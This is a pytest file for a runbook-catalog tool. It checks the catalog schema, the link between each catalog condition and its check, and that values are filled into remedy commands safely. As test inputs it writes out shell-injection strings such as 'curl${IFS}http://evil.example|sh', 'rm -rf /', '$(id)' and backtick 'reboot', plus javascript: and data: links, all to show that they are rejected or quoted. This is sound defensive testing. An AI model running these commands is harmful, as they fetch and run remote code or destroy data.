"""The catalog guards: schema, and two-way traceability between the runbook catalog and the checks."""

from __future__ import annotations

import importlib
import inspect
import pkgutil
import re
from pathlib import Path

import pytest

import checks
from blinkcheck.catalog import CatalogError, fill, load_catalog, placeholders
from tests.reliability import Sees

CATALOG = load_catalog()


def check_functions() -> dict[str, list[str]]:
    """condition id -> the check functions (module::name) that carry its marker."""
    found: dict[str, list[str]] = {}
    for mod in pkgutil.walk_packages(checks.__path__, "checks."):
        module = importlib.import_module(mod.name)
        for name, fn in inspect.getmembers(module, inspect.isfunction):
            if not name.startswith("test_") or fn.__module__ != module.__name__:
                continue
            marks = [m for m in getattr(fn, "pytestmark", []) if m.name == "condition"]
            assert len(marks) == 1, f"{mod.name}::{name} must name exactly one condition"
            found.setdefault(marks[0].args[0], []).append(f"{mod.name}::{name}")
    return found


def test_every_condition_has_exactly_one_check():
    found = check_functions()
    missing = [cid for cid in CATALOG.ids if cid not in found]
    doubled = {cid: fns for cid, fns in found.items() if len(fns) > 1}
    assert not missing, f"conditions without a check: {missing}"
    assert not doubled, f"conditions with more than one check: {doubled}"


def test_every_check_names_a_catalog_condition():
    unknown = {cid: fns for cid, fns in check_functions().items() if cid not in CATALOG.ids}
    assert not unknown, f"checks naming conditions not in the catalog: {unknown}"


def test_check_files_follow_platform_folders():
    for cid, fns in check_functions().items():
        platform = CATALOG[cid].platform
        assert all(fn.startswith(f"checks.{platform}.") for fn in fns), (cid, fns)


def test_runbook_commands_kept_exact():
    text = "\n".join(c.remedy + c.checks for c in CATALOG.conditions)
    for command in (
        "docker ps -a | grep {runner_name}",
        "docker logs {container_id}",
        "docker container restart {container_id}",
        "kubectl rollout restart deployment {deployment}",
        "kubectl delete deployment {operator}",
        "kubectl get deployment -n {namespace} | grep blink-operator",
    ):
        assert command in text, command


def test_fill_keeps_unknown_placeholders_visible():
    assert fill("restart {container_id} on {host}", {"container_id": "3f2a9c1b7d4e"}) == "restart 3f2a9c1b7d4e on {host}"
    assert placeholders("a {x} b {y}") == {"x", "y"}


def test_ids_are_unique_and_requires_resolve():
    assert len(set(CATALOG.ids)) == len(CATALOG.ids)
    for c in CATALOG.conditions:
        assert set(c.requires) <= set(CATALOG.ids)


BAD = [
    ("schema_version: 2\nconditions: []\n", "schema_version"),
    ("schema_version: 1\n", "missing field 'conditions'"),
    ("schema_version: 1\nconditions:\n  - id: docker.x.y\n", "condition 'docker.x.y': missing field 'section'"),
    ("schema_version: 1\nconditions:\n  - {id: Bad Id}\n", "field 'id'"),
    ("schema_version: 1\nconditions: [1]\n", "conditions[0]: must be a mapping"),
    (": : :\n", "not valid YAML"),
]


@pytest.mark.parametrize(("text", "message"), BAD)
def test_bad_catalog_names_entry_and_field(tmp_path: Path, text: str, message: str):
    path = tmp_path / "catalog.yaml"
    path.write_text(text)
    with pytest.raises(CatalogError, match=re.escape(message)):
        load_catalog(path)


def test_bad_section_value(tmp_path: Path):
    text = Path(CATALOG.path).read_text().replace("section: disconnected", "section: disconected", 1)
    path = tmp_path / "c.yaml"
    path.write_text(text)
    expected = "condition 'docker.disconnected.container-exists': field 'section'"
    with pytest.raises(CatalogError, match=re.escape(expected)):
        load_catalog(path)


# ------------------------------------------------------------------ remedies safe to paste

INJECTED_VERSION = "1.0;curl${IFS}http://evil.example|sh"


def test_upgrade_patterns_capture_only_a_version_shape():
    line = (
        f"Creating new container with name: blink-runner-{INJECTED_VERSION} and configuration from container "
        "with id: 3f2a9c1b7d4e"
    )
    assert not CATALOG.upgrade_patterns["creating"].search(line)
    good = line.replace(INJECTED_VERSION, "1.0.995-rc1+build.7")
    m = CATALOG.upgrade_patterns["creating"].search(good)
    assert m and m["version"] == "1.0.995-rc1+build.7" and m["name"] == "blink-runner-1.0.995-rc1+build.7"
    handoff = f"Operator has been deployed with version: {INJECTED_VERSION}, Current Runner will shutdown once new runner is up and ready."
    assert not CATALOG.upgrade_patterns["operator_handoff"].search(handoff)


@pytest.mark.parametrize(
    ("name", "bad"),
    [
        ("container_id", "3f2a9c1b7d4e;rm -rf ~"),
        ("new_container_id", "blink-runner-1.0;curl${IFS}x|sh"),
        ("version", INJECTED_VERSION),
        ("namespace", "blink$(id)"),
        ("pod", "runner`reboot`"),
        ("deployment", "blink-runner && curl x"),
        ("container_name", "blink\nrunner"),
    ],
)
def test_a_value_that_does_not_fit_its_shape_is_shown_apart_never_in_a_command(name: str, bad: str):
    template = f"Try: `docker logs {{{name}}}` then `kubectl get pods -n {{{name}}}`"
    out = fill(template, {name: bad})
    command_lines = out.split("\nNot filled in above")[0]
    assert bad not in command_lines and f"{{{name}}}" in command_lines
    assert "Not filled in above (shown apart, never inside a command)" in out
    assert repr(bad) in out


def test_values_of_the_right_shape_are_filled():
    out = fill("`docker logs {container_id}` for {version} in {namespace}",
               {"container_id": "3f2a9c1b7d4e", "version": "1.0.995", "namespace": "blink"})
    assert out == "`docker logs 3f2a9c1b7d4e` for 1.0.995 in blink"


def test_other_values_inside_a_command_are_shell_quoted_prose_is_not():
    out = fill("`kubectl create rolebinding x {subject_flag}` for {subject}",
               {"subject_flag": "--user=oidc:alice smith", "subject": "oidc:alice smith"})
    assert out == "`kubectl create rolebinding x '--user=oidc:alice smith'` for oidc:alice smith"


def test_format_specs_in_a_template_are_never_applied():
    assert fill("{x:>500000000}", {"x": "a"}) == "{x:>500000000}"
    assert fill("{x!r} {x.__class__}", {"x": "a"}) == "{x!r} {x.__class__}"


# ------------------------------------------------------------------ a site catalog is validated


def _with(tmp_path: Path, old: str, new: str) -> Path:
    text = Path(CATALOG.path).read_text()
    assert old in text, old
    path = tmp_path / "site.yaml"
    path.write_text(text.replace(old, new, 1))
    return path


SITE_CATALOG_REFUSED = ("the catalog loader refuses it (the plugin's usage error), naming the entry and field: \"… must be "
                        "an http:// or https:// URL\", \"… must have the named groups …\", \"only plain {name} placeholders\"")


@pytest.mark.reliability(
    "a site catalog (`--catalog`) with a `javascript:` or `data:` link, an upgrade pattern without its named groups, or a `{placeholder:>500000000}`, `{x!r}`, `{x.__class__}` or `{0}` placeholder",
    Sees(facts=(SITE_CATALOG_REFUSED,)),
)
@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("troubleshooting: https://docs", "troubleshooting: javascript:alert(1)//https://docs",
         "links.troubleshooting: field 'url' must be an http:// or https:// URL"),
        ("troubleshooting: https://docs", "troubleshooting: data:text/html,x//https://docs", "links.troubleshooting"),
        ("link: troubleshooting", "link: https://", "field 'link' must be an https:// URL"),
        ("(?P<container_id>[0-9a-f]{12,64})'", "[0-9a-f]{12,64}'", "field 'creating' must have the named groups name, version, container_id (missing: container_id)"),
        ("version: (?P<version>[0-9][0-9A-Za-z.+-]*), Current", "version: [0-9.]+, Current", "field 'operator_handoff' must have the named groups version"),
        ("`docker logs {container_id}`", "`docker logs {container_id:>500000000}`", "placeholder '{container_id:>500000000}'"),
        ("`docker logs {container_id}`", "`docker logs {container_id!r}`", "placeholder '{container_id!r}'"),
        ("`docker logs {container_id}`", "`docker logs {container_id.__class__}`", "only plain {name} placeholders"),
        ("`docker logs {container_id}`", "`docker logs {0}`", "only plain {name} placeholders"),
    ],
)
def test_site_catalog_is_validated(tmp_path: Path, old: str, new: str, message: str, sees):
    with pytest.raises(CatalogError) as refused:
        load_catalog(_with(tmp_path, old, new))
    sees.fact(SITE_CATALOG_REFUSED, message in str(refused.value), str(refused.value))


def test_command_lines_are_filled_only_when_every_word_is_quoted():
    """The probe's "reproduce" command carries paths and proxy URLs from the runner's own image and settings:
    it is pasted only in the canonical quoted form the suite builds, never as a raw line."""
    import shlex

    from blinkcheck.catalog import fill

    crafted_ca = "/etc/ssl/x';curl${IFS}evil|sh;'"
    built = shlex.join(["nsenter", "-t", "42", "-n", "curl", "-v", "--cacert", crafted_ca, "https://app.blinkops.com"])
    text = fill("Reproduce: `{reproduce}`", {"reproduce": built})
    assert text == f"Reproduce: `{built}`"
    assert shlex.split(built)[7] == crafted_ca  # one word, inert
    raw = "nsenter -t 42 -n curl --cacert /x;rm -rf / https://app.blinkops.com"
    text = fill("Reproduce: `{reproduce}`", {"reproduce": raw})
    assert "rm -rf" not in text.split("\n")[0] and "Not filled in above" in text
